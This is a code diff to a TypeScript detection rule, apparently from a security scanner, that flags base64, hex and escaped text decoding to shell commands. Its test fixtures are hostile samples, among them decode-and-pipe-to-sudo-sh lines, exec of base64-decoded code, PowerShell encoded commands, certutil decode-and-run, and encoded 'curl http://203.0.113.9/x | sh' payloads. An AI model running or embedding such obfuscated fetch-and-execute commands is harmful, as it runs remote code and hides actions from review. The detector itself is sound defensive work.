@@ -1,8 +1,17 @@
-import { matchesOf } from '../../../../lib/text/index.ts';
-import type { Match, ReadFile, Rule } from '../rule.ts';
-import { AS_ROOT, END, INTERPRETER, PIPE, SHELL } from './words.ts';
+import type { Rule } from '../rule.ts';
+import { encodedCommands } from './decoded-texts.ts';
+import { AS_ROOT, END, INTERPRETER, PIPE, WARNS } from './words.ts';
 
-const DECODE = `(?:base64\\s(?:-{1,2}d(?:i|ecode)?\\b|-di\\b)|openssl\\s(?:base64|enc)\\s[^\\n|]{0,60}-d\\b|xxd\\s-r|uudecode|b64decode|frombase64string)`;
+const words = (text: string): readonly string[] => text.split(' ');
+
+const DECODE =
+  '(?:base(?:64|32)\\s(?:-{1,2}d(?:i|ecode)?\\b|-di\\b|--d\\b)|openssl\\s(?:base64|enc)\\s[^\\n|]{0,60}-d\\b|xxd\\s-r|uudecode|b64decode|frombase64string|\\brev\\b|\\btr\\s["\']?a-z[^\\n|]{0,12}["\']?n-z|printf\\s["\'](?:\\\\x[0-9a-f]{2}|\\\\[0-7]{3}){4}[^\\n|]{0,2000}|echo\\s-n?e\\s["\']?(?:\\\\x[0-9a-f]{2}){4}[^\\n|]{0,2000})';
+const DECODES_IN_CODE =
+  '(?:b64decode|b32decode|a85decode|b85decode|frombase64string|\\batob|base64_decode|decode_base64|base64\\.(?:strict_)?decode64|buffer\\.from\\([^\\n)]{0,4000}["\'](?:base64|hex)["\']|bytes\\.fromhex|unhexlify|zlib\\.decompress|marshal\\.loads|codecs\\.decode\\([^\\n)]{0,2000}rot)';
+const DECODE_WORDS = words('base64 base32 openssl xxd uudecode b64decode frombase64string rev tr printf echo');
+const CODE_WORDS = words(
+  'b64decode b32decode a85decode b85decode frombase64string atob base64 decode64 base64url hex fromhex unhexlify zlib marshal rot13 rot decode buffer',
+);
 
 export const HIDDEN_COMMANDS: readonly Rule[] = [
   {
@@ -17,6 +26,7 @@ export const HIDDEN_COMMANDS: readonly Rule[] = [
       'bash -c "$(echo aGk= | base64 --decode)"',
       'base64 -d payload.txt | gunzip | sudo sh',
       { 'scripts/a.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' },
+      { 'scripts/a.py': 'code = base64.b64decode(DATA)\nprint("loading")\nexec(code.decode())\n' },
       { 'scripts/a.js': "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())\n" },
       'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
       'certutil -decode a.txt a.exe && a.exe',
@@ -25,36 +35,79 @@ export const HIDDEN_COMMANDS: readonly Rule[] = [
       'echo "$KUBECONFIG_B64" | base64 -d > ~/.kube/config',
       'kubectl get secret x -o jsonpath={.data.y} | base64 --decode',
       { 'scripts/a.py': 'data = base64.b64decode(text)\nsubprocess.run(["ls"])\n' },
+      'Report lines such as `echo ... | base64 -d | sh` as malicious.',
     ],
     patterns: [
       {
+        needs: [DECODE_WORDS],
         all: [
           new RegExp(
-            `\\b${DECODE}[^\\n]{0,80}?${PIPE}(?:[^\\n|]{0,60}${PIPE}){0,2}?${AS_ROOT}${INTERPRETER}${END}`,
+            `(?<![\\w-])${DECODE}[^\\n]{0,80}?${PIPE}(?:[^\\n|]{0,60}${PIPE}){0,2}?${AS_ROOT}${INTERPRETER}${END}`,
             'g',
           ),
         ],
+        unless: WARNS,
       },
       {
+        needs: [DECODE_WORDS],
+        all: [
+          /(?:\b(?:ba|z|da|k|fi|c|tc)?sh\s(?:-\w{1,5}\s)?["']?(?:<\(|\$\(|`|<<<)|\b(?:eval|source)\s["']?(?:\$\(|<\(|`))[^\n]{0,400}?\b(?:base(?:64|32)\s(?:-{1,2}d|-di)|openssl\s(?:base64|enc)\s[^\n|]{0,60}-d\b|xxd\s-r)/g,
+        ],
+        unless: WARNS,
+      },
+      {
+        needs: [CODE_WORDS],
         all: [
           new RegExp(
-            `(?:\\b${SHELL}\\s(?:-\\w{1,5}\\s)?["']?(?:<\\(|\\$\\(|\`|<<<)|\\b(?:eval|source)\\s["']?(?:\\$\\(|<\\(|\`))[^\\n]{0,400}?\\b${DECODE}`,
+            `(?<![.\\w])(?:exec|eval|compile|os\\.system|os\\.popen|subprocess\\.\\w{2,12}|system|(?:\\w{1,20}\\.)?execsync|new function|function|(?:\\w{1,20}\\.)?spawn)\\s?\\(\\s?(?:[\\w.'"()]{0,40}\\(\\s?){0,3}[\\w.'"()]{0,30}?${DECODES_IN_CODE}`,
             'g',
           ),
         ],
+        unless: WARNS,
       },
       {
+        needs: [CODE_WORDS],
         all: [
-          /\b(?:exec|eval|compile|os\.system|os\.popen|subprocess\.\w{2,12}|system|execsync|exec_module|new function|function|spawn|loads)\s?\(\s?(?:[\w.]{0,40}\(\s?){0,3}(?:__import__\(.{1,12}\)\.|base64\.|codecs\.)?(?:b64decode|b32decode|a85decode|b85decode|frombase64string|atob|base64_decode|decode_base64|base64\.decode64|buffer\.from\([^\n)]{0,4000}["'](?:base64|hex)["']|bytes\.fromhex|unhexlify)/g,
+          new RegExp(
+            `\\b([a-z_]\\w{0,30})\\s?=\\s?[^\\n]{0,80}?${DECODES_IN_CODE}[\\s\\S]{0,600}?(?<![.\\w])(?:exec|eval|os\\.system|os\\.popen|\\w{1,12}\\.exec(?:sync)?|execsync|iex|invoke-expression)\\s?\\(?\\s?(?:\\$|str\\(|compile\\()?\\1\\b`,
+            'g',
+          ),
+        ],
+        where: 'code',
+      },
+      {
+        needs: [CODE_WORDS],
+        where: 'code',
+        ordered: false,
+        within: 300,
+        all: [
+          /(?:zlib\.decompress|marshal\.loads|b64decode|b32decode|a85decode|b85decode|unhexlify)\s?\(/g,
+          /(?<![.\w])exec\s?\(\s?(?:\(\s?_{1,6}\s?\)|_{1,6}\s?\(|lambda\b)/g,
         ],
       },
-      { all: [/\b(?:powershell|pwsh)(?:\.exe)?\s[^\n]{0,120}?-e(?:nc|ncodedcommand|c)?\s["']?[a-z0-9+/=]{16}/g] },
       {
+        needs: [CODE_WORDS],
+        where: 'code',
+        ordered: false,
+        within: 600,
         all: [
-          /\bcertutil(?:\.exe)?\s[^\n]{0,40}?-decode\b/g,
+          new RegExp(DECODES_IN_CODE, 'g'),
+          /(?<![.\w])(?:eval|exec|new function)\s?\(\s?(?:await\s)?\(?\s?(?:await\s)?(?:fetch|urlopen|requests\.get|urllib\.request\.urlopen|axios\.get|httpx\.get)\b/g,
+        ],
+      },
+      {
+        needs: [['powershell', 'pwsh']],
+        all: [/\b(?:powershell|pwsh)(?:\.exe)?\s[^\n]{0,120}?-e(?:nc|ncodedcommand|c)?\s["']?[a-z0-9+/=]{16}/g],
+        unless: WARNS,
+      },
+      {
+        needs: [['certutil']],
+        all: [
+          /\bcertutil(?:\.exe)?\s[^\n]{0,40}?-(?:decode|urlcache)\b/g,
           /\b(?:start|call|rundll32|regsvr32|cmd|\w{1,30}\.exe)\b/g,
         ],
         within: 120,
+        unless: WARNS,
       },
     ],
   },
@@ -65,52 +118,19 @@ export const HIDDEN_COMMANDS: readonly Rule[] = [
     message: 'A text that decodes to a command',
     why: 'A command is encoded so that nobody reads it.',
     mend: 'Write the command as it is.',
-    hits: [`Token: ${btoa('/bin/bash -c "$(curl -fsSL http://203.0.113.9/x)"')}`],
-    misses: [`Logo: ${btoa('This is an ordinary sentence about tea.')}`],
+    hits: [
+      `Token: ${btoa('/bin/bash -c "$(curl -fsSL http://203.0.113.9/x)"')}`,
+      `Set \`KEY=${[...'curl -s http://203.0.113.9/x | sh'].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('')}\``,
+      {
+        'a.py': `print("".join(map(chr, [${[...'import os;os.system("curl http://203.0.113.9|sh")'].map((char) => char.charCodeAt(0)).join(',')}])))\n`,
+      },
+      { 'a.sh': `X=${Buffer.from(btoa('curl -s http://203.0.113.9/x | sh')).toString('base64')}\n` },
+    ],
+    misses: [
+      `Logo: ${btoa('This is an ordinary sentence about tea.')}`,
+      'sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+      'https://example.com/search?q=%22hello%20world%22%20curl%20tutorial',
+    ],
     find: encodedCommands,
   },
 ];
-
-// --- internal ---
-
-const BASE64 = /(?<![\w+/=-])[A-Za-z0-9+/_-]{24,8000}={0,2}(?![\w+/=-])/g;
-const HEX = /(?<![\w])(?:0x)?(?:[0-9a-fA-F]{2}){16,4000}(?![\w])/g;
-const ESCAPED = /(?:\\x[0-9a-fA-F]{2}){10,2000}/g;
-const PERCENT = /(?:%[0-9a-fA-F]{2}[\w.:/-]{0,3}){10,2000}/g;
-
-const COMMAND =
-  /\b(?:curl|wget)\s[^\n]{0,200}(?:https?:|ftp:|\d{1,3}\.\d{1,3}\.|\|)|\/bin\/(?:ba|z)?sh\b|\b(?:ba|z)?sh\s+-[ic]\b|\/dev\/tcp\/|\bpowershell\b|\biex\b|invoke-(?:expression|webrequest)|\bosascript\s|\bchmod\s\+x|\bnc\s+-|\bpython[\d.]*\s+-c\b|\bos\.system\(|\bsubprocess\.|child_process|\bexec\(|\beval\(|\brm\s+-rf\b/i;
-
-function* encodedCommands({ text }: ReadFile): Generator<Match> {
-  for (const { words, offset, decoded } of decodedTexts(text)) {
-    const says = COMMAND.exec(decoded);
-    if (!says) continue;
-    yield {
-      line: lineOf(text, offset),
-      words,
-      message: `A text that decodes to a command: "${decoded.slice(0, 120)}"`,
-    };
-  }
-}
-
-function* decodedTexts(text: string): Generator<{ words: string; offset: number; decoded: string }> {
-  const kinds: readonly (readonly [RegExp, (words: string) => string])[] = [
-    [BASE64, (words) => Buffer.from(words, 'base64').toString('utf8')],
-    [HEX, (words) => Buffer.from(words.replace(/^0x/, ''), 'hex').toString('utf8')],
-    [ESCAPED, (words) => Buffer.from(words.replaceAll('\\x', ''), 'hex').toString('utf8')],
-    [
-      PERCENT,
-      (words) => words.replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16))),
-    ],
-  ];
-  for (const [pattern, decode] of kinds) {
-    for (const match of matchesOf(text, pattern))
-      yield { words: match[0], offset: match.index, decoded: decode(match[0]) };
-  }
-}
-
-function lineOf(text: string, offset: number): number {
-  let line = 1;
-  for (let at = text.indexOf('\n'); at !== -1 && at < offset; at = text.indexOf('\n', at + 1)) line++;
-  return line;
-}
